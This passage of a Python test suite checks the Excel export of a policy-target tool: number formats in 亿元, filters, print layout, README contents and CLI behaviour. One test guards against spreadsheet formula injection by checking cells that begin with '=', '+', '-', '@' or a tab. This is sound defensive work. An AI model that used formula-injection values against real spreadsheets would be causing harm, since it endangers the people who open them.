    for table, sheet in excel.DATA_SHEETS.items():
        expected = read_table_csv(processed / f"{table}.csv", table)
        got = _read_sheet(book, sheet, table)
        pd.testing.assert_frame_equal(got, expected, check_exact=True, obj=sheet)


def test_built_workbook_has_no_formula_and_explains_itself(exported, built_project):
    wb = openpyxl.load_workbook(exported)
    assert wb.sheetnames == list(excel.SHEETS)
    for ws in wb.worksheets:
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), ws.title
    text = _all_text(wb["README"])
    for doc in read_table_csv(
        built_project / "data" / "processed" / "documents.csv", "documents"
    ).itertuples():
        assert doc.doc_id in text and doc.title_zh in text


def test_build_writes_the_same_workbook_as_to_excel(exported, built_project):
    built = built_project / "data" / "processed" / "policylens_summary.xlsx"
    if not built.exists():
        pytest.skip("policylens build does not write the workbook yet")
    assert built.read_bytes() == exported.read_bytes()


def test_to_excel_reads_the_built_candidates_and_extracts_nothing(
    built_copy, tmp_path, monkeypatch
):
    import shutil

    import policylens as pl
    from policylens import pipeline

    def no_extraction(*args, **kwargs):
        raise AssertionError("to_excel extracted the documents again")

    monkeypatch.setattr(pipeline, "candidate_targets", no_extraction)
    shutil.rmtree(built_copy / ".policylens-cache")  # nothing kept beside the tables is needed
    path = pl.to_excel(tmp_path / "again.xlsx", root=built_copy)
    built = built_copy / "data" / "processed" / "policylens_summary.xlsx"
    assert path.read_bytes() == built.read_bytes()


def test_review_sheet_lists_at_most_its_cap_and_points_to_the_rest(tmp_path, monkeypatch):
    from policylens.excel import readme

    # the rule holds for any cap: a small one keeps the workbook small (the cap is 5,000)
    assert workbook.REVIEW_ROWS == 5_000
    for module in (workbook, readme):
        monkeypatch.setattr(module, "REVIEW_ROWS", 40)
    path = tmp_path / "many.xlsx"
    excel.write_workbook(with_review(sample_tables(hostile=False), workbook.REVIEW_ROWS + 3), path)
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = list(wb["Review"].iter_rows(values_only=True))
    assert rows[1][0] == "candidate_id"
    listed = [r for r in rows[2:] if r[0] and str(r[0]).startswith("jiangxi_chains_2023_2026:c")]
    assert len(listed) == workbook.REVIEW_ROWS
    pointer = rows[-1][0]
    assert f"{workbook.REVIEW_ROWS:,} of {workbook.REVIEW_ROWS + 3:,}" in pointer
    assert "candidates.csv" in pointer and "candidates.parquet" in pointer
    readme = " ".join(str(c) for r in wb["README"].iter_rows(values_only=True) for c in r if c)
    assert f"{workbook.REVIEW_ROWS + 3:,} extracted candidate targets still await" in readme


def test_cli_export_xlsx(built_project, tmp_path):
    from policylens.cli import main

    with pytest.raises(SystemExit) as info:
        main(["--root", str(built_project), "export", "xlsx", str(tmp_path)])
    assert info.value.code == 0
    assert (tmp_path / "policylens_summary.xlsx").exists()  # a folder gets the default name
    with pytest.raises(SystemExit) as info:
        main(["--root", str(built_project), "export", "xlsx", str(tmp_path / "x.csv")])
    assert info.value.code == 1


# --------------------------------------------------------------------------- for a reader


def _table_sheets(wb):
    return [ws for ws in wb.worksheets if ws.tables]


def test_money_is_shown_in_yi_and_cny_bn_beside_the_exact_yuan(sample_book):
    ws = openpyxl.load_workbook(sample_book)["Targets"]
    names = [c.value for c in ws[2]]
    at = names.index("value_stretch")
    assert names[at + 1 : at + 5] == [
        "value_yi",
        "value_cny_bn",
        "value_stretch_yi",
        "value_stretch_cny_bn",
    ]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=3)}
    lithium = {n: c for n, c in zip(names, rows["jiangxi_chains_2023_2026:2"], strict=True)}
    assert (lithium["value"].value, lithium["value_yi"].value) == (3.5e11, 3500)
    assert (lithium["value_cny_bn"].value, lithium["value_stretch_yi"].value) == (350, 4500)
    assert lithium["value_yi"].number_format == '">"#,##0'  # the comparator stays with it
    assert lithium["value_stretch_yi"].number_format == "#,##0"
    count = {n: c for n, c in zip(names, rows["jiangxi_chains_2023_2026:5"], strict=True)}
    assert count["value_yi"].value is None and count["value"].value == 1234  # not money


def test_built_workbook_keeps_comparators_and_drops_needless_decimals(exported):
    wb = openpyxl.load_workbook(exported)
    ws = wb["Targets"]
    names = [c.value for c in ws[2]]
    rows = {r[0].value: dict(zip(names, r, strict=True)) for r in ws.iter_rows(min_row=3)}
    nonferrous = next(r for r in rows.values() if r["quote"].value.endswith("力争突破1万亿元"))
    assert nonferrous["value_yi"].value == 10000
    assert nonferrous["value_yi"].number_format == '">"#,##0'  # shows >10,000, not 10,000.00
    for sheet in _table_sheets(wb):
        for row in sheet.iter_rows(min_row=3):
            for cell in row:
                if isinstance(cell.value, (int, float)) and float(cell.value).is_integer():
                    assert ".0" not in cell.number_format, (sheet.title, cell.coordinate)
    goals = wb["Revenue goals"]
    formats = {c.number_format for row in goals.iter_rows(min_row=3) for c in row[4:]}
    assert '">"#,##0' in formats and "#,##0.00" not in formats
    scopes = {r[2].value: r[1].value for r in goals.iter_rows(min_row=3)}
    assert scopes["全部16条重点产业链"].startswith("All 16 key chains")  # Shanxi: not 1 chain


def test_every_table_sheet_has_filters_readable_headers_and_prints_on_one_page_width(exported):
    wb = openpyxl.load_workbook(exported)
    sheets = _table_sheets(wb)
    assert {ws.title for ws in sheets} >= {*DATA_SHEETS, "Revenue goals", "Chain counts"}
    for ws in sheets:
        (tbl,) = ws.tables.values()
        assert tbl.autoFilter is not None and tbl.autoFilter.ref == tbl.ref, ws.title
        assert tbl.ref.startswith("A2:"), ws.title
        labels = [c.value for c in ws[1]]
        names = [c.value for c in ws[2]]
        assert [c.name for c in tbl.tableColumns] == names, ws.title  # Excel needs them
        assert all(labels) and len(labels) == len(names), ws.title
        assert labels != names  # readable words above the column names, which stay below
        assert ws.freeze_panes == "A3"
        assert ws.page_setup.orientation == "landscape", ws.title
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.print_title_rows == "$1:$2", ws.title
    targets = wb["Targets"]
    header = dict(zip([c.value for c in targets[2]], [c.value for c in targets[1]], strict=True))
    assert header["value_stretch"] == "Stretch value (力争), in its unit"
    assert header["value_yi"] == "Value in 亿元"


def test_to_excel_writes_any_frames_with_the_same_formats_and_safety(tmp_path):
    import policylens as pl

    tables = sample_tables()
    shanxi = tables["targets"][tables["targets"]["province"] == "Shanxi"]
    own = pd.DataFrame({"note": HOSTILE, "n": range(len(HOSTILE))})
    frames = {"Shanxi targets": shanxi, "notes/2024: mine?": own, "notes 2024  mine": own}
    path = pl.to_excel(tmp_path / "mine.xlsx", tables=frames)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["README", "Shanxi targets", "notes 2024  mine", "notes 2024  mine (2)"]
    ws = wb["Shanxi targets"]
    names = [c.value for c in ws[2]]
    assert "value_yi" in names and names[: len(shanxi.columns)][:3] == list(shanxi.columns[:3])
    rows = {r[0].value: dict(zip(names, r, strict=True)) for r in ws.iter_rows(min_row=3)}
    assert set(rows) == set(shanxi["target_id"])
    pv = rows["shanxi_chain_chief_2024:1"]
    assert pv["value"].value == 123456789.5 and pv["value"].number_format == '">"#,##0.0'
    assert ws.tables and ws.print_title_rows == "$1:$2"
    notes = wb["notes 2024  mine"]
    for cell in notes["A"][2:]:
        assert cell.data_type == "s" and cell.value in HOSTILE
        if cell.value[0] in "=+-@\t":
            assert cell.quotePrefix
    readme = _all_text(wb["README"])
    assert "Shanxi targets (3 rows)" in readme and "value_stretch" in readme
    again = pl.to_excel(tmp_path / "again.xlsx", tables=frames)
    assert again.read_bytes() == path.read_bytes()
    with pytest.raises(ValueError, match="not a DataFrame"):
        pl.to_excel(tmp_path / "bad.xlsx", tables={"x": [1, 2]})
    with pytest.raises(OutputError, match=r"\.xlsx extension"):
        pl.to_excel(tmp_path / "bad.csv", tables={"x": own})


def test_per_unit_targets_are_never_shown_as_a_provinces_total(tmp_path):
    tables = sample_tables(hostile=False)
    extra = [
        {**tables["targets"].iloc[0].to_dict(), "target_id": "jiangxi_chains_2023_2026:9",
         "scope_zh": "各设区市", "scope": "each city", "chain": "new_energy", "value": 1e10,
         "per": "city"},
        {**tables["targets"].iloc[3].to_dict(), "target_id": "jiangxi_chains_2023_2026:10",
         "scope_zh": "每条产业链", "scope": "each chain", "value": 2.0, "per": "chain"},
    ]  # fmt: skip
    targets = pd.concat([tables["targets"], pd.DataFrame(extra)], ignore_index=True)
    path = tmp_path / "per.xlsx"
    excel.write_workbook({**tables, "targets": targets}, path)
    goals = pd.read_excel(path, sheet_name="Revenue goals", header=1).set_index(["chain", "value"])
    assert goals.loc[("new_energy", "floor"), "Jiangxi 2026 (亿元)"] == 7000  # the total
    assert goals.loc[("new_energy (per city)", "floor"), "Jiangxi 2026 (亿元)"] == 100
    assert goals.loc[("new_energy (per city)", "floor"), "scope_zh"] == "各设区市（每个市）"
    counts = pd.read_excel(path, sheet_name="Chain counts", header=1).set_index("target_id")
    assert counts.loc["jiangxi_chains_2023_2026:10", "what"] == "each chain, per chain"


def test_every_comparator_has_a_sign_in_the_workbook():
    from policylens.excel import cells
    from policylens.model.vocab import COMPARATORS

    assert set(cells.COMPARATOR_SIGNS) == set(COMPARATORS)
    assert cells.COMPARATOR_SIGNS["<="] == "≤"
